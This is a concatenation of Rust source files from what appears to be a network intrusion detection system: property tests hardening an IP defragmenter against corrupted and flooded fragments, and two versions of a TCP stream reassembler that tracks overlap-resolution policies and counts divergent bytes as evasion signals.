        );
    }
}
