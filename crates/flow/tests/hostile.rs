//! Hostile-input property tests: the defragmenter is total over corrupted,
//! reordered, and flooded fragment streams, and every ingested packet is
//! attributed to exactly one outcome.

use proptest::prelude::*;
use snids_flow::defrag::fragment_packet;
use snids_flow::{DefragConfig, DefragOutcome, Defragmenter};
use snids_packet::{Packet, PacketBuilder, TcpFlags};
use std::net::Ipv4Addr;

/// How many of the ingested packets this outcome hands downstream.
fn delivered(outcome: &DefragOutcome) -> u64 {
    match outcome {
        DefragOutcome::Passthrough(_) => 1,
        DefragOutcome::Reassembled { pieces, .. } => *pieces,
        DefragOutcome::Buffered | DefragOutcome::Dropped(_) => 0,
    }
}

proptest! {
    /// Bit-corrupted fragments in arbitrary order never panic the
    /// defragmenter, and the piece ledger balances: every packet fed in is
    /// delivered, dropped, or drained — exactly once.
    #[test]
    fn defragmenter_total_and_balanced_under_corruption(
        payload_len in 64usize..4000,
        mtu in 8usize..512,
        flips in proptest::collection::vec((any::<u16>(), 0u8..8), 0..16),
        order_seed in any::<u64>(),
        max_pending in 1usize..32,
    ) {
        let src = Ipv4Addr::new(198, 18, 1, 1);
        let dst = Ipv4Addr::new(10, 0, 0, 2);
        let payload = vec![0x5A; payload_len];
        let p = PacketBuilder::new(src, dst)
            .tcp(4000, 80, 1, 0, TcpFlags::ACK | TcpFlags::PSH, &payload)
            .unwrap();
        let mut frags = fragment_packet(&p, mtu);

        // Flip bits at arbitrary positions across the fragments. A corrupted
        // frame may stop decoding entirely; keep the original then — what
        // matters is that whatever *does* decode reaches the defragmenter.
        for (pos, bit) in &flips {
            let idx = *pos as usize % frags.len();
            let mut raw = frags[idx].raw().to_vec();
            let at = *pos as usize % raw.len();
            raw[at] ^= 1 << bit;
            if let Ok(newp) = Packet::decode(frags[idx].ts_micros, raw) {
                frags[idx] = newp;
            }
        }

        // Deterministic shuffle.
        let mut s = order_seed;
        for i in (1..frags.len()).rev() {
            s = s.wrapping_mul(6364136223846793005).wrapping_add(1);
            frags.swap(i, (s >> 33) as usize % (i + 1));
        }

        let mut d = Defragmenter::new(DefragConfig {
            max_pending,
            ..DefragConfig::default()
        });
        let fed = frags.len() as u64;
        let mut out = 0u64;
        for f in frags {
            out += delivered(&d.ingest(f));
        }
        d.drain_incomplete();
        prop_assert_eq!(d.pending(), 0);
        prop_assert_eq!(
            fed,
            out + d.stats().total(),
            "ledger must balance: stats = {:?}",
            d.stats()
        );
    }

    /// A fragment flood with distinct datagram keys can never grow the
    /// pending table past its cap, and every refused fragment is counted.
    #[test]
    fn frag_flood_never_exceeds_pending_cap(
        n in 1usize..128,
        cap in 1usize..16,
    ) {
        let mut d = Defragmenter::new(DefragConfig {
            max_pending: cap,
            ..DefragConfig::default()
        });
        for i in 0..n {
            let src = Ipv4Addr::new(198, 18, (i / 250) as u8, (i % 250) as u8 + 1);
            let p = PacketBuilder::new(src, Ipv4Addr::new(10, 0, 0, 2))
                .tcp(4000, 80, 1, 0, TcpFlags::ACK, &[0u8; 64])
                .unwrap();
            // First fragment only: the datagram can never complete.
            let first = fragment_packet(&p, 8).swap_remove(0);
            let outcome = d.ingest(first);
            prop_assert_eq!(delivered(&outcome), 0);
            prop_assert!(d.pending() <= cap);
        }
        prop_assert_eq!(d.pending(), n.min(cap));
        prop_assert_eq!(d.stats().cap_exceeded, n.saturating_sub(cap) as u64);
        prop_assert_eq!(d.drain_incomplete(), n.min(cap) as u64);
    }
}
