//! TCP stream reassembly for one direction of one connection.
//!
//! Reassembly is the classic NIDS evasion surface: when two segments carry
//! *different* data for the same sequence range, real TCP stacks disagree
//! about which copy the application sees (Aubard et al. 2025 measured the
//! divergence across current OSes). A sensor that resolves overlaps
//! differently from the victim can be shown one byte stream while the
//! victim executes another. The [`Reassembler`] therefore implements the
//! resolution as a pluggable [`OverlapPolicy`] and counts every divergent
//! overlapped byte in [`Reassembler::overlap_conflict_bytes`], so a desync
//! attempt is *observable* even when the configured policy happens to keep
//! the right copy.

use std::collections::BTreeMap;

/// Default cap on reassembled bytes per stream (the paper's exploits are
/// ≤ ~10 KB; we keep a wide margin without letting an attacker balloon
/// memory).
pub const DEFAULT_MAX_STREAM: usize = 1 << 20;

/// Cap on retained *shadow* bytes per stream direction — the losing copies
/// of divergent overlaps (see [`Reassembler::alternate_assembled`]). An
/// attacker can manufacture divergent overlaps at will, so the retained
/// ambiguity is bounded tightly; real desync evasions need only a segment
/// or two of divergence.
pub const MAX_SHADOW_BYTES: usize = 8 * 1024;

/// How a segment whose bytes overlap already-buffered data is resolved.
///
/// Policies are modeled per byte: every buffered byte remembers the
/// relative start offset of the segment that contributed it (its *owner*),
/// and a new segment starting at `new_start` takes an overlapped byte
/// owned by a segment that started at `old_start` according to the
/// policy's rule. This is the abstraction real stacks differ in:
///
/// | policy | new data wins when | models |
/// |---|---|---|
/// | `FirstWins` | never | a receiver that keeps whatever it buffered first |
/// | `LastWins` | always | a receiver that lets retransmits overwrite |
/// | `BsdLike` | `new_start < old_start` | BSD-style "prefer the segment that begins earlier" |
/// | `LinuxLike` | `new_start <= old_start` | Linux-style: like BSD, but a same-start retransmit wins |
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
pub enum OverlapPolicy {
    /// Original data always wins; later conflicting copies are ignored.
    #[default]
    FirstWins,
    /// The newest copy always wins.
    LastWins,
    /// New data wins only where its segment starts strictly before the
    /// segment that owns the overlapped bytes.
    BsdLike,
    /// New data wins where its segment starts at or before the owner's
    /// start — i.e. BSD plus "a same-start retransmit replaces".
    LinuxLike,
}

impl OverlapPolicy {
    /// Every policy, in a stable order (benchmark sweeps iterate this).
    pub const ALL: [OverlapPolicy; 4] = [
        OverlapPolicy::FirstWins,
        OverlapPolicy::LastWins,
        OverlapPolicy::BsdLike,
        OverlapPolicy::LinuxLike,
    ];

    /// Stable kebab-case name (CLI flag value / JSON key).
    pub fn name(self) -> &'static str {
        match self {
            OverlapPolicy::FirstWins => "first-wins",
            OverlapPolicy::LastWins => "last-wins",
            OverlapPolicy::BsdLike => "bsd-like",
            OverlapPolicy::LinuxLike => "linux-like",
        }
    }

    /// Parse a [`OverlapPolicy::name`] (a few aliases accepted).
    pub fn parse(s: &str) -> Option<OverlapPolicy> {
        match s {
            "first-wins" | "first" => Some(OverlapPolicy::FirstWins),
            "last-wins" | "last" => Some(OverlapPolicy::LastWins),
            "bsd-like" | "bsd" => Some(OverlapPolicy::BsdLike),
            "linux-like" | "linux" => Some(OverlapPolicy::LinuxLike),
            _ => None,
        }
    }

    /// Does a new segment starting at `new_start` take overlapped bytes
    /// currently owned by a segment that started at `old_start`?
    fn new_wins(self, new_start: u32, old_start: u32) -> bool {
        match self {
            OverlapPolicy::FirstWins => false,
            OverlapPolicy::LastWins => true,
            OverlapPolicy::BsdLike => new_start < old_start,
            OverlapPolicy::LinuxLike => new_start <= old_start,
        }
    }
}

/// One maximal run of buffered bytes contributed under a single owner.
#[derive(Debug, Clone)]
struct Chunk {
    data: Vec<u8>,
    /// Relative start offset of the segment these bytes came from — the
    /// tiebreaker [`OverlapPolicy::new_wins`] consults.
    owner: u32,
}

/// Reassembles one direction of a TCP connection from possibly
/// out-of-order, overlapping segments.
///
/// Sequence handling: the first observed segment anchors the stream (its
/// sequence number becomes relative offset 0; a SYN consumes one sequence
/// number). Overlaps resolve per the configured [`OverlapPolicy`]
/// (byte-granular), and every overlapped byte whose two copies *differ* is
/// counted in [`Reassembler::overlap_conflict_bytes`] regardless of which
/// copy wins — the NIDS must see the same bytes the victim does, and must
/// notice when an attacker tries to make that impossible.
#[derive(Debug, Clone)]
pub struct Reassembler {
    isn: Option<u32>,
    /// Disjoint buffered runs: relative offset → chunk. Adjacent chunks
    /// may touch but never overlap, so `assembled` is a prefix walk.
    chunks: BTreeMap<u32, Chunk>,
    policy: OverlapPolicy,
    max_bytes: usize,
    /// Distinct bytes currently buffered (coverage, not arrival volume —
    /// a pure retransmit adds nothing).
    buffered: usize,
    /// set when data had to be dropped (cap exceeded)
    truncated: bool,
    /// Overlapped bytes whose copies disagreed.
    overlap_conflict_bytes: u64,
    /// Losing copies of *divergent* contested regions: relative offset →
    /// the bytes the policy discarded there. This is what lets a near-miss
    /// analysis check the alternative interpretation of an ambiguous
    /// stream (the copy a differently-behaving victim stack would keep).
    shadows: BTreeMap<u32, Vec<u8>>,
    /// Bytes currently retained in `shadows`.
    shadow_bytes: usize,
    /// Set when a losing copy was discarded because the shadow cap was hit.
    shadow_truncated: bool,
    /// Per-stream shadow retention cap ([`MAX_SHADOW_BYTES`] normally; 0
    /// for flows created under memory pressure — see `snids-flow::budget`).
    max_shadow: usize,
}

impl Default for Reassembler {
    fn default() -> Self {
        Reassembler::new(DEFAULT_MAX_STREAM)
    }
}

impl Reassembler {
    /// A first-copy-wins reassembler with a custom byte cap.
    pub fn new(max_bytes: usize) -> Self {
        Reassembler::with_policy(max_bytes, OverlapPolicy::FirstWins)
    }

    /// A reassembler with a custom byte cap and overlap policy.
    pub fn with_policy(max_bytes: usize, policy: OverlapPolicy) -> Self {
        Reassembler::with_limits(max_bytes, policy, MAX_SHADOW_BYTES)
    }

    /// A reassembler with explicit stream and shadow byte caps. A
    /// `max_shadow` of 0 disables divergent-overlap shadow retention
    /// entirely (the degraded mode flows get under memory pressure);
    /// conflicts are still *counted*, only the losing copies go unkept.
    pub fn with_limits(max_bytes: usize, policy: OverlapPolicy, max_shadow: usize) -> Self {
        Reassembler {
            isn: None,
            chunks: BTreeMap::new(),
            policy,
            max_bytes,
            buffered: 0,
            truncated: false,
            overlap_conflict_bytes: 0,
            shadows: BTreeMap::new(),
            shadow_bytes: 0,
            shadow_truncated: false,
            max_shadow,
        }
    }

    /// Bytes this stream holds in memory: buffered coverage plus retained
    /// shadow copies — the quantity charged to the shared
    /// [`MemoryBudget`](crate::MemoryBudget).
    pub fn mem_bytes(&self) -> usize {
        self.buffered + self.shadow_bytes
    }

    /// The overlap-resolution policy this stream runs under.
    pub fn policy(&self) -> OverlapPolicy {
        self.policy
    }

    /// Record a SYN with sequence number `seq` (anchors relative offset 0
    /// at `seq + 1`).
    pub fn on_syn(&mut self, seq: u32) {
        if self.isn.is_none() {
            self.isn = Some(seq.wrapping_add(1));
        }
    }

    /// Add a data segment with absolute sequence number `seq`.
    pub fn on_data(&mut self, seq: u32, data: &[u8]) {
        if data.is_empty() {
            return;
        }
        let isn = *self.isn.get_or_insert(seq);
        let rel = seq.wrapping_sub(isn);
        // Reject segments wildly outside the window (wrapped negatives).
        if rel > u32::MAX / 2 {
            return;
        }
        // Byte cap and window bound: a segment may not extend past the cap
        // or past half the sequence space (so chunk arithmetic below stays
        // within u32).
        let end = rel as u64 + data.len() as u64;
        if end > self.max_bytes as u64 || end > u64::from(u32::MAX / 2) + 1 {
            self.truncated = true;
            return;
        }
        self.insert(rel, data);
    }

    /// Merge the segment `[rel, rel + data.len())` into the disjoint chunk
    /// set, resolving overlapped regions per the policy and counting
    /// divergent bytes. Every affected chunk is removed and re-emitted as
    /// up to three pieces (prefix / contested / suffix), so the disjoint
    /// invariant holds by construction.
    fn insert(&mut self, rel: u32, data: &[u8]) {
        let end = rel + data.len() as u32;
        let overlapping: Vec<u32> = self
            .chunks
            .range(..end)
            .filter(|(&s, c)| s + c.data.len() as u32 > rel)
            .map(|(&s, _)| s)
            .collect();

        let mut pieces: Vec<(u32, Chunk)> = Vec::new();
        let mut removed = 0usize;
        // Next offset of the new segment not yet accounted for.
        let mut cursor = rel;
        for s in overlapping {
            let Some(old) = self.chunks.remove(&s) else {
                continue;
            };
            removed += old.data.len();
            let old_end = s + old.data.len() as u32;
            // Old bytes before the new segment survive untouched.
            if s < rel {
                pieces.push((
                    s,
                    Chunk {
                        data: old.data[..(rel - s) as usize].to_vec(),
                        owner: old.owner,
                    },
                ));
            }
            // New bytes filling the gap before this chunk.
            if cursor < s {
                pieces.push((
                    cursor,
                    Chunk {
                        data: data[(cursor - rel) as usize..(s - rel) as usize].to_vec(),
                        owner: rel,
                    },
                ));
            }
            // The contested region: both copies exist.
            let c0 = s.max(rel);
            let c1 = old_end.min(end);
            let old_slice = &old.data[(c0 - s) as usize..(c1 - s) as usize];
            let new_slice = &data[(c0 - rel) as usize..(c1 - rel) as usize];
            let divergent = old_slice
                .iter()
                .zip(new_slice)
                .filter(|(a, b)| a != b)
                .count() as u64;
            self.overlap_conflict_bytes += divergent;
            let new_wins = self.policy.new_wins(rel, old.owner);
            if divergent > 0 {
                // Retain the copy the policy discards: a differently-
                // behaving victim stack would have kept it, so a near-miss
                // analysis must be able to reconstruct that view.
                let loser = if new_wins { old_slice } else { new_slice };
                self.retain_shadow(c0, loser);
            }
            if new_wins {
                pieces.push((
                    c0,
                    Chunk {
                        data: new_slice.to_vec(),
                        owner: rel,
                    },
                ));
            } else {
                pieces.push((
                    c0,
                    Chunk {
                        data: old_slice.to_vec(),
                        owner: old.owner,
                    },
                ));
            }
            // Old bytes after the new segment survive untouched.
            if old_end > end {
                pieces.push((
                    end,
                    Chunk {
                        data: old.data[(end - s) as usize..].to_vec(),
                        owner: old.owner,
                    },
                ));
            }
            cursor = c1;
        }
        // New bytes past the last overlapped chunk.
        if cursor < end {
            pieces.push((
                cursor,
                Chunk {
                    data: data[(cursor - rel) as usize..].to_vec(),
                    owner: rel,
                },
            ));
        }
        for (s, c) in pieces {
            self.buffered += c.data.len();
            self.chunks.insert(s, c);
        }
        self.buffered -= removed;
    }

    /// True if data was dropped due to the cap.
    pub fn truncated(&self) -> bool {
        self.truncated
    }

    /// Distinct stream bytes currently buffered. Coverage, not arrival
    /// volume: retransmits and overlaps do not inflate this, so it is
    /// always `<= max_bytes`.
    pub fn buffered(&self) -> usize {
        self.buffered
    }

    /// Overlapped bytes whose two copies carried *different* data — the
    /// observable signature of a TCP desync/evasion attempt. Counted on
    /// every conflicting overlap regardless of which copy the policy kept.
    pub fn overlap_conflict_bytes(&self) -> u64 {
        self.overlap_conflict_bytes
    }

    /// The contiguous byte stream from relative offset 0 (stops at the
    /// first gap). Overlapping regions resolve per the configured policy.
    pub fn assembled(&self) -> Vec<u8> {
        let mut out: Vec<u8> = Vec::with_capacity(self.buffered);
        for (&s, c) in &self.chunks {
            if s as usize != out.len() {
                break; // chunks are disjoint, so a mismatch is a gap
            }
            out.extend_from_slice(&c.data);
        }
        out
    }

    /// Record the losing copy of a divergent contested region, bounded by
    /// [`MAX_SHADOW_BYTES`]. The *first* divergence at an offset is kept
    /// (later rewrites of an already-contested range cannot evict it — an
    /// attacker may not launder the evidence by overwriting twice).
    fn retain_shadow(&mut self, at: u32, loser: &[u8]) {
        if self.shadows.contains_key(&at) {
            return;
        }
        if self.shadow_bytes + loser.len() > self.max_shadow {
            self.shadow_truncated = true;
            return;
        }
        self.shadow_bytes += loser.len();
        self.shadows.insert(at, loser.to_vec());
    }

    /// Bytes currently retained as losing copies of divergent overlaps.
    pub fn shadow_bytes(&self) -> usize {
        self.shadow_bytes
    }

    /// True when a losing copy was discarded because the shadow cap hit.
    pub fn shadow_truncated(&self) -> bool {
        self.shadow_truncated
    }

    /// The *alternative interpretation* of the stream: [`assembled`]
    /// with every divergent contested region replaced by the copy the
    /// policy discarded. This is the byte stream a victim whose stack
    /// resolves overlaps the other way would execute. Returns `None` when
    /// the stream held no divergent overlaps (the views coincide).
    ///
    /// [`assembled`]: Reassembler::assembled
    pub fn alternate_assembled(&self) -> Option<Vec<u8>> {
        if self.shadows.is_empty() {
            return None;
        }
        let mut out = self.assembled();
        for (&s, bytes) in &self.shadows {
            let s = s as usize;
            if s >= out.len() {
                break;
            }
            let n = bytes.len().min(out.len() - s);
            out[s..s + n].copy_from_slice(&bytes[..n]);
        }
        Some(out)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn in_order_assembly() {
        let mut r = Reassembler::default();
        r.on_syn(999);
        r.on_data(1000, b"GET /");
        r.on_data(1005, b"index");
        assert_eq!(r.assembled(), b"GET /index");
    }

    #[test]
    fn out_of_order_assembly() {
        let mut r = Reassembler::default();
        r.on_syn(0);
        r.on_data(6, b"world");
        assert_eq!(r.assembled(), b"", "gap before offset 0 data");
        r.on_data(1, b"hello");
        assert_eq!(r.assembled(), b"helloworld");
    }

    #[test]
    fn anchors_on_first_data_without_syn() {
        let mut r = Reassembler::default();
        r.on_data(5000, b"abc");
        r.on_data(5003, b"def");
        assert_eq!(r.assembled(), b"abcdef");
    }

    #[test]
    fn overlap_first_copy_wins() {
        let mut r = Reassembler::default();
        r.on_data(100, b"AAAA");
        r.on_data(102, b"BBBB"); // overlaps last two As
        assert_eq!(r.assembled(), b"AAAABB");
        // retransmission of the same offset keeps the original
        r.on_data(100, b"XXXX");
        assert_eq!(r.assembled(), b"AAAABB");
    }

    /// The four policies, one divergent same-start retransmit: who wins
    /// matches the policy table, and the conflict ledger counts every
    /// divergent byte either way.
    #[test]
    fn policy_matrix_same_start_retransmit() {
        for (policy, expect) in [
            (OverlapPolicy::FirstWins, &b"AAAA"[..]),
            (OverlapPolicy::LastWins, &b"BBBB"[..]),
            (OverlapPolicy::BsdLike, &b"AAAA"[..]),
            (OverlapPolicy::LinuxLike, &b"BBBB"[..]),
        ] {
            let mut r = Reassembler::with_policy(1024, policy);
            r.on_data(0, b"AAAA");
            r.on_data(0, b"BBBB");
            assert_eq!(r.assembled(), expect, "{}", policy.name());
            assert_eq!(r.overlap_conflict_bytes(), 4, "{}", policy.name());
            assert_eq!(r.buffered(), 4, "{}", policy.name());
        }
    }

    /// A later segment overlapping mid-stream (starts *inside* buffered
    /// data): only LastWins takes the conflicting copy.
    #[test]
    fn policy_matrix_mid_stream_overlap() {
        for (policy, expect) in [
            (OverlapPolicy::FirstWins, &b"AAAADD"[..]),
            (OverlapPolicy::LastWins, &b"AACCDD"[..]),
            (OverlapPolicy::BsdLike, &b"AAAADD"[..]),
            (OverlapPolicy::LinuxLike, &b"AAAADD"[..]),
        ] {
            let mut r = Reassembler::with_policy(1024, policy);
            r.on_data(0, b"AAAA");
            r.on_data(2, b"CCDD"); // [2,4) contested, [4,6) fresh
            assert_eq!(r.assembled(), expect, "{}", policy.name());
            assert_eq!(r.overlap_conflict_bytes(), 2, "{}", policy.name());
        }
    }

    /// A segment that starts *before* buffered data and runs into it: the
    /// earlier start wins under BSD/Linux/Last, loses only under First.
    #[test]
    fn policy_matrix_undercut_overlap() {
        for (policy, expect) in [
            (OverlapPolicy::FirstWins, &b"AAXX"[..]),
            (OverlapPolicy::LastWins, &b"AAAA"[..]),
            (OverlapPolicy::BsdLike, &b"AAAA"[..]),
            (OverlapPolicy::LinuxLike, &b"AAAA"[..]),
        ] {
            let mut r = Reassembler::with_policy(1024, policy);
            r.on_syn(u32::MAX); // anchor relative offset 0 at seq 0
            r.on_data(2, b"XX"); // arrives first, owns [2,4)
            r.on_data(0, b"AAAA"); // starts earlier, covers [0,4)
            assert_eq!(r.assembled(), expect, "{}", policy.name());
            assert_eq!(r.overlap_conflict_bytes(), 2, "{}", policy.name());
        }
    }

    /// Identical overlapping copies are not conflicts.
    #[test]
    fn clean_retransmits_count_no_conflicts() {
        for policy in OverlapPolicy::ALL {
            let mut r = Reassembler::with_policy(1024, policy);
            r.on_data(0, b"hello world");
            r.on_data(0, b"hello world");
            r.on_data(6, b"world");
            assert_eq!(r.assembled(), b"hello world", "{}", policy.name());
            assert_eq!(r.overlap_conflict_bytes(), 0, "{}", policy.name());
        }
    }

    /// Regression (buffered-bytes accounting): pure retransmits used to
    /// run `buffered += data.len()` even though the duplicate was
    /// discarded, inflating `buffered` until the cap falsely tripped.
    /// Coverage accounting keeps `buffered` at the distinct-byte count and
    /// `truncated` stays clear no matter how often a segment repeats.
    #[test]
    fn retransmits_do_not_inflate_buffered_or_trip_the_cap() {
        let mut r = Reassembler::new(64);
        let payload = [0x41u8; 48];
        for _ in 0..10 {
            r.on_data(0, &payload); // 480 bytes of arrival volume
            assert_eq!(r.buffered(), 48);
            assert!(!r.truncated(), "a retransmit must never trip the cap");
        }
        assert_eq!(r.assembled(), payload);
        // and the remaining 16 bytes of capacity are still usable
        r.on_data(48, &[0x42u8; 16]);
        assert_eq!(r.buffered(), 64);
        assert!(!r.truncated());
    }

    #[test]
    fn sequence_wraparound() {
        let mut r = Reassembler::default();
        r.on_syn(u32::MAX - 2); // isn = MAX-1
        r.on_data(u32::MAX - 1, b"ab"); // rel 0
        r.on_data(0, b"cd"); // rel 2 (wrapped past 2^32)
        assert_eq!(r.assembled(), b"abcd");
    }

    #[test]
    fn old_segments_below_isn_are_dropped() {
        let mut r = Reassembler::default();
        r.on_syn(1000); // isn = 1001
        r.on_data(500, b"stale"); // rel wraps negative
        assert_eq!(r.assembled(), b"");
        assert_eq!(r.buffered(), 0);
    }

    #[test]
    fn byte_cap_enforced() {
        let mut r = Reassembler::new(16);
        r.on_data(0, &[0x41; 16]);
        assert!(!r.truncated());
        r.on_data(16, b"overflow");
        assert!(r.truncated());
        assert_eq!(r.assembled().len(), 16);
        // far offsets cannot allocate memory either
        let mut r = Reassembler::new(16);
        r.on_data(0, b"x");
        r.on_data(1 << 20, b"far");
        assert!(r.truncated());
    }

    #[test]
    fn empty_segments_ignored() {
        let mut r = Reassembler::default();
        r.on_data(10, b"");
        assert!(r.isn.is_none());
        r.on_data(10, b"data");
        assert_eq!(r.assembled(), b"data");
    }

    #[test]
    fn gap_stops_assembly_until_filled() {
        let mut r = Reassembler::default();
        r.on_data(0, b"one");
        r.on_data(10, b"three");
        assert_eq!(r.assembled(), b"one");
        r.on_data(3, b"_two___");
        assert_eq!(r.assembled(), b"one_two___three");
    }

    /// One segment spanning several buffered chunks resolves each
    /// contested region against that region's own owner.
    #[test]
    fn multi_chunk_overlap_resolves_per_owner() {
        let mut r = Reassembler::with_policy(1024, OverlapPolicy::BsdLike);
        r.on_syn(u32::MAX); // anchor relative offset 0 at seq 0
        r.on_data(2, b"BB"); // owner 2
        r.on_data(6, b"CC"); // owner 6
                             // Starts at 0: earlier than both owners, so BSD replaces both,
                             // and fills the gaps.
        r.on_data(0, b"AAAAAAAAAA");
        assert_eq!(r.assembled(), b"AAAAAAAAAA");
        assert_eq!(r.buffered(), 10);
        assert_eq!(r.overlap_conflict_bytes(), 4);
    }

    /// The alternative view restores the losing copy of a divergent
    /// whole-segment retransmit — the view a differently-resolving victim
    /// stack would execute.
    #[test]
    fn alternate_view_restores_the_losing_copy() {
        // last-wins keeps the garbage retransmit; the alternative is the
        // original data.
        let mut r = Reassembler::with_policy(1024, OverlapPolicy::LastWins);
        r.on_data(0, b"REALDATA");
        r.on_data(0, b"GARBAGE!");
        assert_eq!(r.assembled(), b"GARBAGE!");
        assert_eq!(r.alternate_assembled().unwrap(), b"REALDATA");
        // first-wins keeps garbage that arrived first; the alternative is
        // the real copy that came after.
        let mut r = Reassembler::with_policy(1024, OverlapPolicy::FirstWins);
        r.on_data(0, b"GARBAGE!");
        r.on_data(0, b"REALDATA");
        assert_eq!(r.assembled(), b"GARBAGE!");
        assert_eq!(r.alternate_assembled().unwrap(), b"REALDATA");
    }

    /// A partial (tail-half) divergent overlap flips only the contested
    /// region in the alternative view.
    #[test]
    fn alternate_view_flips_only_the_contested_region() {
        let mut r = Reassembler::with_policy(1024, OverlapPolicy::LastWins);
        r.on_data(0, b"AAAABBBB");
        r.on_data(4, b"XXXX");
        assert_eq!(r.assembled(), b"AAAAXXXX");
        assert_eq!(r.alternate_assembled().unwrap(), b"AAAABBBB");
        assert_eq!(r.shadow_bytes(), 4);
    }

    /// Clean retransmits leave no ambiguity: there is no alternative view.
    #[test]
    fn no_divergence_means_no_alternate_view() {
        for policy in OverlapPolicy::ALL {
            let mut r = Reassembler::with_policy(1024, policy);
            r.on_data(0, b"hello world");
            r.on_data(0, b"hello world");
            assert!(r.alternate_assembled().is_none(), "{}", policy.name());
            assert_eq!(r.shadow_bytes(), 0);
        }
    }

    /// The first divergence at an offset is retained even when an attacker
    /// overwrites the contested range again — evidence cannot be laundered
    /// by a second rewrite.
    #[test]
    fn first_divergence_is_kept() {
        let mut r = Reassembler::with_policy(1024, OverlapPolicy::LastWins);
        r.on_data(0, b"REAL");
        r.on_data(0, b"JNK1");
        r.on_data(0, b"JNK2");
        assert_eq!(r.assembled(), b"JNK2");
        assert_eq!(r.alternate_assembled().unwrap(), b"REAL");
    }

    /// Shadow retention is capped: a flood of divergent overlaps cannot
    /// balloon memory, and the truncation is observable.
    #[test]
    fn shadow_cap_is_enforced() {
        let mut r = Reassembler::with_policy(1 << 20, OverlapPolicy::LastWins);
        let a = vec![0x41u8; 4096];
        let b = vec![0x42u8; 4096];
        for i in 0..4u32 {
            r.on_data(i * 4096, &a);
            r.on_data(i * 4096, &b);
        }
        assert!(r.shadow_bytes() <= MAX_SHADOW_BYTES);
        assert!(r.shadow_truncated());
    }

    /// A zero shadow cap (degraded mode) keeps counting conflicts but
    /// retains no losing copies — memory pressure trades the alternative
    /// view away, never the desync signal.
    #[test]
    fn zero_shadow_cap_disables_retention_but_counts_conflicts() {
        let mut r = Reassembler::with_limits(1024, OverlapPolicy::LastWins, 0);
        r.on_data(0, b"REALDATA");
        r.on_data(0, b"GARBAGE!");
        assert_eq!(r.assembled(), b"GARBAGE!");
        assert_eq!(r.overlap_conflict_bytes(), 8);
        assert_eq!(r.shadow_bytes(), 0);
        assert!(r.alternate_assembled().is_none());
        assert!(r.shadow_truncated());
        assert_eq!(r.mem_bytes(), 8);
    }

    #[test]
    fn mem_bytes_counts_stream_plus_shadow() {
        let mut r = Reassembler::with_policy(1024, OverlapPolicy::LastWins);
        r.on_data(0, b"AAAABBBB");
        r.on_data(4, b"XXXX");
        assert_eq!(r.buffered(), 8);
        assert_eq!(r.shadow_bytes(), 4);
        assert_eq!(r.mem_bytes(), 12);
    }

    #[test]
    fn policy_names_round_trip() {
        for p in OverlapPolicy::ALL {
            assert_eq!(OverlapPolicy::parse(p.name()), Some(p));
        }
        assert_eq!(
            OverlapPolicy::parse("linux"),
            Some(OverlapPolicy::LinuxLike)
        );
        assert_eq!(OverlapPolicy::parse("nonsense"), None);
    }
}
