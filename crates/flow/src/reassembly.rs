//! TCP stream reassembly for one direction of one connection.

use std::collections::BTreeMap;

/// Default cap on reassembled bytes per stream (the paper's exploits are
/// ≤ ~10 KB; we keep a wide margin without letting an attacker balloon
/// memory).
pub const DEFAULT_MAX_STREAM: usize = 1 << 20;

/// Reassembles one direction of a TCP connection from possibly
/// out-of-order, overlapping segments.
///
/// Sequence handling: the first observed segment anchors the stream (its
/// sequence number becomes relative offset 0; a SYN consumes one sequence
/// number). Overlaps resolve **first-copy-wins**, matching what a typical
/// receiver that buffered the earlier segment would deliver — the NIDS must
/// see the same bytes the victim does.
#[derive(Debug, Clone)]
pub struct Reassembler {
    isn: Option<u32>,
    /// relative offset → segment bytes
    segments: BTreeMap<u32, Vec<u8>>,
    max_bytes: usize,
    buffered: usize,
    /// set when data had to be dropped (cap exceeded)
    truncated: bool,
}

impl Default for Reassembler {
    fn default() -> Self {
        Reassembler::new(DEFAULT_MAX_STREAM)
    }
}

impl Reassembler {
    /// A reassembler with a custom byte cap.
    pub fn new(max_bytes: usize) -> Self {
        Reassembler {
            isn: None,
            segments: BTreeMap::new(),
            max_bytes,
            buffered: 0,
            truncated: false,
        }
    }

    /// Record a SYN with sequence number `seq` (anchors relative offset 0
    /// at `seq + 1`).
    pub fn on_syn(&mut self, seq: u32) {
        if self.isn.is_none() {
            self.isn = Some(seq.wrapping_add(1));
        }
    }

    /// Add a data segment with absolute sequence number `seq`.
    pub fn on_data(&mut self, seq: u32, data: &[u8]) {
        if data.is_empty() {
            return;
        }
        let isn = *self.isn.get_or_insert(seq);
        let rel = seq.wrapping_sub(isn);
        // Reject segments wildly outside the window (wrapped negatives).
        if rel > u32::MAX / 2 {
            return;
        }
        if (rel as usize).saturating_add(data.len()) > self.max_bytes {
            self.truncated = true;
            return;
        }
        if self.buffered + data.len() > self.max_bytes {
            self.truncated = true;
            return;
        }
        self.buffered += data.len();
        // first-copy-wins: keep existing segments, insert only if new offset
        self.segments.entry(rel).or_insert_with(|| data.to_vec());
    }

    /// True if data was dropped due to the cap.
    pub fn truncated(&self) -> bool {
        self.truncated
    }

    /// Total bytes currently buffered (before overlap resolution).
    pub fn buffered(&self) -> usize {
        self.buffered
    }

    /// The contiguous byte stream from relative offset 0 (stops at the
    /// first gap). Overlapping regions resolve first-copy-wins.
    pub fn assembled(&self) -> Vec<u8> {
        let mut out: Vec<u8> = Vec::with_capacity(self.buffered.min(self.max_bytes));
        for (&rel, data) in &self.segments {
            let rel = rel as usize;
            if rel > out.len() {
                break; // gap
            }
            if rel + data.len() <= out.len() {
                continue; // fully covered by earlier copy
            }
            let skip = out.len() - rel;
            out.extend_from_slice(&data[skip..]);
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn in_order_assembly() {
        let mut r = Reassembler::default();
        r.on_syn(999);
        r.on_data(1000, b"GET /");
        r.on_data(1005, b"index");
        assert_eq!(r.assembled(), b"GET /index");
    }

    #[test]
    fn out_of_order_assembly() {
        let mut r = Reassembler::default();
        r.on_syn(0);
        r.on_data(6, b"world");
        assert_eq!(r.assembled(), b"", "gap before offset 0 data");
        r.on_data(1, b"hello");
        assert_eq!(r.assembled(), b"helloworld");
    }

    #[test]
    fn anchors_on_first_data_without_syn() {
        let mut r = Reassembler::default();
        r.on_data(5000, b"abc");
        r.on_data(5003, b"def");
        assert_eq!(r.assembled(), b"abcdef");
    }

    #[test]
    fn overlap_first_copy_wins() {
        let mut r = Reassembler::default();
        r.on_data(100, b"AAAA");
        r.on_data(102, b"BBBB"); // overlaps last two As
        assert_eq!(r.assembled(), b"AAAABB");
